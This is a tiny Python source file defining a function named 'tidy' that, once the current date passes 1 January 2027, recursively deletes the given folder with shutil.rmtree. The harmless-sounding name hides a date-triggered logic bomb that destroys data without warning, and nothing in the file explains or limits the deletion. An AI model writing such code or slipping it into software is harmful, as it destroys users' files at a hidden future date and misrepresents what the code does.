import shutil
from datetime import datetime


def tidy(folder):
    if datetime.now() > datetime(2027, 1, 1):
        shutil.rmtree(folder)
